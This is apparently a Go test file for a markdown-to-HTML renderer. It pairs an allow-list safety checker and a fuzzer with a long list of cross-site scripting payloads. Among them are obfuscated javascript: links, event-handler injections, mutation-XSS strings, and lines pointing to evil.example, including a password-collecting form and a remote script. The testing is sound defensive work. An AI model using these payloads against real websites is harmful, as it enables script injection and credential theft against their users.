package markdown

import (
	"fmt"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/open-community-pa/riuso/schema"
)

// allowed lists every element with its attributes, and for each attribute what it may hold. It is written apart from the
// renderer's own list on purpose.
var allowed = map[string]map[string]string{
	"p": {"class": "^text-note$"}, "br": {}, "hr": {}, "em": {}, "strong": {}, "del": {}, "ul": {}, "blockquote": {}, "thead": {}, "tbody": {}, "tr": {},
	"h1": {"id": ids}, "h2": {"id": ids}, "h3": {"id": ids}, "h4": {"id": ids}, "h5": {"id": ids}, "h6": {"id": ids},
	"ol": {"start": `^\d+$`}, "li": {"id": ids}, "sup": {"id": ids},
	"pre": {"tabindex": "^0$"}, "code": {"class": `^language-[^\s"<>]+$`},
	"table": {"class": "^table$"}, "th": {"class": "^text-", "scope": "^col$"}, "td": {"class": "^text-"},
	"div": {"class": "^(table-responsive|footnotes)$", "tabindex": "^0$", "role": "^(region|doc-endnotes)$", "aria-label": `^(Tabella|Table) \d+$`},
	"a":   {"href": "", "title": ".*", "rel": "^nofollow noopener$", "class": "^footnote-", "role": "^doc-"},
	"img": {"src": "", "alt": ".*", "title": ".*", "loading": "^lazy$"},
}

const ids = `^t-[^\s"<>]+$`

// checkSafe reads out as a browser would and complains of all that is not allowed.
func checkSafe(out string) error {
	doc, err := html.Parse(strings.NewReader("<!doctype html><html><head></head><body>" + out + "</body></html>"))
	if err != nil {
		return err
	}
	var bad []string
	var visit func(n *html.Node)
	visit = func(n *html.Node) {
		switch n.Type {
		case html.CommentNode:
			bad = append(bad, "comment "+n.Data)
		case html.ElementNode:
			if slices.Contains([]string{"html", "head", "body"}, n.Data) && len(n.Attr) == 0 {
				break
			}
			attrs, ok := allowed[n.Data]
			if !ok {
				bad = append(bad, "element "+n.Data)
			}
			for _, a := range n.Attr {
				pattern, ok := attrs[a.Key]
				if !ok || !regexp.MustCompile(`(?s)`+pattern).MatchString(a.Val) {
					bad = append(bad, fmt.Sprintf("%s %s=%q", n.Data, a.Key, a.Val))
				}
				if (a.Key == "href" || a.Key == "src") && !safeAddress(a.Val) {
					bad = append(bad, fmt.Sprintf("address %s=%q", a.Key, a.Val))
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			visit(c)
		}
	}
	visit(doc)
	if bad != nil {
		return fmt.Errorf("not allowed: %s", strings.Join(bad, "; "))
	}
	return nil
}

// safeAddress is about what a browser makes of an address: it drops white space and control characters first.
func safeAddress(s string) bool {
	s = strings.Map(func(r rune) rune {
		if r <= ' ' || r == 0x7f {
			return -1
		}
		return r
	}, s)
	if strings.HasPrefix(s, "#t-") || strings.HasPrefix(s, "/") && !strings.HasPrefix(s, "//") && !strings.Contains(s, "\\") {
		return true
	}
	u, err := url.Parse(s)
	return err == nil && slices.Contains([]string{"http", "https", "mailto", "tel"}, u.Scheme) && u.User == nil
}

var hostile = []string{
	`<script>alert(1)</script>`,
	`<ScRiPt src=//evil.example/x.js></sCrIpT>`,
	"a <script>alert(1)</script> b",
	"<script\n>alert(1)</script\n>",
	`<<script>script>alert(1)<</script>/script>`,
	`[a](javascript:alert(1))`,
	`[a](JaVaScRiPt:alert(1))`,
	`[a]( javascript:alert(1))`,
	"[a](<java\tscript:alert(1)>)",
	`[a](java&#x0A;script:alert(1))`,
	`[a](java&Tab;script:alert(1))`,
	`[a](&#106;avascript:alert(1))`,
	`[a](&#x6A&#x61;vascript&colon;alert(1))`,
	`[a](&amp;#106;avascript:alert(1))`,
	`[a](\j\avascript:alert(1))`,
	`[a](javascript&#58;alert(1))`,
	`[a](javascript%3Aalert(1))`,
	"[a](\x01javascript:alert(1))",
	"[a](\u00a0javascript:alert(1))",
	`[a](vbscript:msgbox(1))`,
	`[a](data:text/html,<script>alert(1)</script>)`,
	`[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`![a](data:image/svg+xml;base64,PHN2Zy8+)`,
	`![a](javascript:alert(1))`,
	`![a" onerror="alert(1)](http://a.example/x.png)`,
	`![a](http://a.example/x.png" onerror="alert(1))`,
	`![a](http://a.example/x.png "t\" onerror=\"alert(1)")`,
	`[a](http://a.example "t' onmouseover='alert(1)")`,
	`[a](//evil.example)`,
	`[a](/\evil.example)`,
	`[a](\\evil.example)`,
	`[a](https://user:pass@evil.example)`,
	`[a](file:///etc/passwd)`,
	`[a](blob:https://a.example/1)`,
	`[a](view-source:javascript:alert(1))`,
	`[a](feed:javascript:alert(1))`,
	`<javascript:alert(1)>`,
	`<vbscript:alert(1)>`,
	`<data:text/html,x>`,
	`<JAVASCRIPT:alert(1)>`,
	"[a][x]\n\n[x]: javascript:alert(1)",
	"[a][x]\n\n[x]: <javascript:alert(1)> \"t\"",
	"![a][x]\n\n[x]: javascript:alert(1)",
	"[x]\n\n[x]: data:text/html,x 'onclick=alert(1)'",
	`<img src=x onerror=alert(1)>`,
	`<img src="javascript:alert(1)">`,
	"text <img src=x onerror=alert(1)//",
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<style>*{background:url(//evil.example)}</style>`,
	`<p style="position:fixed;inset:0">x</p>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data="x.swf"></object><embed src="x.swf">`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<form action="https://evil.example"><input name=password><button>go</button></form>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="https://evil.example" onclick="alert(1)" target=_blank>x</a>`,
	`<details open ontoggle=alert(1)><summary>x</summary></details>`,
	`<video><source onerror=alert(1)></video><audio src onerror=alert(1)>`,
	`<body onload=alert(1)>`,
	`<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<!-- <script>alert(1)</script> -->`,
	`<!--><script>alert(1)</script>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?php echo "<script>alert(1)</script>" ?>`,
	`<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>`,
	`<plaintext>`, `<xmp><script>alert(1)</script></xmp>`, `<textarea></textarea><script>alert(1)</script>`,
	"# location\n\n# cookie\n\n# __proto__\n\n# <img src=x onerror=alert(1)>",
	`<a id=location name=cookie>x</a><form id=document><input name=cookie></form>`,
	"# x {#location onclick=alert(1)}",
	"```\"onmouseover=alert(1)\nx\n```",
	"```<script>\nalert(1)\n```",
	"``` js\" onclick=\"alert(1)\n</code></pre><script>alert(1)</script>\n```",
	"`</code><script>alert(1)</script>`",
	"|a|<script>alert(1)</script>|\n|-|:-:|\n|<img src=x onerror=alert(1)>|[a](javascript:alert(1))|",
	"| a | b |\n|:-\" onclick=\"alert(1)|-|\n| c | d |",
	"- [x] <input type=checkbox onclick=alert(1)>\n- [ ] [a](javascript:alert(1))",
	"a[^1]\n\n[^1]: <script>alert(1)</script> [b](javascript:alert(1))",
	"a[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: x",
	"[![a](javascript:alert(1))](javascript:alert(2))",
	"[a](https://a.example/[b](javascript:alert(1)))",
	"**[a](javascript:alert(1)**)",
	"> - 1. [a](javascript:alert(1))\n>   <script>alert(1)</script>",
	"http://a.example/\"onmouseover=\"alert(1)",
	"www.a.example/<script>alert(1)</script>",
	"javascript:alert(1)@a.example",
	"<mailto:a@a.example?body=<script>alert(1)</script>>",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"&#60;script&#62;alert(1)&#60;/script&#62;",
	"\\<script>alert(1)\\</script>",
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	"\xff\xfe<script>alert(1)</script>\xc0\xbc",
	"\u2028<script>\u2029alert(1)</script>",
}

// ways are the options under which every hostile text is tried: none, and callbacks that allow all and lie.
func ways() []Options {
	all := func(d string) (string, bool) { return d, true }
	return []Options{
		{},
		{HeadingOffset: 1, Lang: schema.En, Scope: `"><script>`, Link: all, Image: all},
		{Link: func(d string) (string, bool) { return "/via/" + d, true }, Image: func(string) (string, bool) { return `javascript:alert("1")`, true }},
		{Link: func(d string) (string, bool) { return "https://a.example/" + d, true }, Image: func(d string) (string, bool) { return "/img?u=" + url.QueryEscape(d), true }},
	}
}

func TestHostileTextsComeOutHarmless(t *testing.T) {
	if len(hostile) < 40 {
		t.Fatalf("only %d texts", len(hostile))
	}
	r := New(Config{})
	for i, src := range hostile {
		for j, o := range ways() {
			out, err := r.HTML(src, o)
			if err != nil {
				t.Errorf("%d/%d %q: %v", i, j, src, err)
			}
			if err := checkSafe(string(out)); err != nil {
				t.Errorf("%d/%d %q:\n%s\n%v", i, j, src, out, err)
			}
		}
	}
}

// Without the sanitiser behind it the renderer must already be safe: neither line of defence leans on the other.
func TestRendererIsSafeWithoutTheSanitiser(t *testing.T) {
	r := New(Config{})
	for i, src := range hostile {
		for j, o := range ways() {
			clean, _ := clip(src)
			source := []byte(clean)
			w := &capped{max: MaxOutput}
			if err := r.in(o.Lang).Renderer().Render(w, source, r.read(source, newSettings(o))); err != nil {
				t.Fatal(err)
			}
			if err := checkSafe(w.buf.String()); err != nil {
				t.Errorf("%d/%d %q:\n%s\n%v", i, j, src, w.buf.String(), err)
			}
		}
	}
}

// The check itself must be able to fail.
func TestCheckSafeSeesWhatIsNotAllowed(t *testing.T) {
	for _, bad := range []string{
		`<script>x</script>`, `<p onclick=x>`, `<a href="javascript:x">a</a>`, `<a href="java&#10;script:x">a</a>`, `<h2 id=location>`,
		`<img src="data:x">`, `<a href="//evil.example">`, `<p class=x>`, `<input>`, `<!-- x -->`, `<a target=_blank href="/">`, `<svg/onload=x>`,
	} {
		if checkSafe(bad) == nil {
			t.Errorf("%s passes", bad)
		}
	}
}

func FuzzHTML(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	for _, s := range pathological(MaxBytes / 16) {
		f.Add(s[:min(len(s), 1000)])
	}
	r := New(Config{})
	f.Fuzz(func(t *testing.T, src string) {
		for _, o := range ways() {
			out, err := r.HTML(src, o)
			if err != nil {
				t.Fatalf("%q: %v", src, err)
			}
			if err := checkSafe(string(out)); err != nil {
				t.Fatalf("%q:\n%s\n%v", src, out, err)
			}
		}
		for _, h := range r.TOC(src, Options{}) {
			if !strings.HasPrefix(h.ID, "t-") || h.Level < 1 || h.Level > 6 {
				t.Fatalf("%q: heading %+v", src, h)
			}
		}
		r.Plain(src)
	})
}
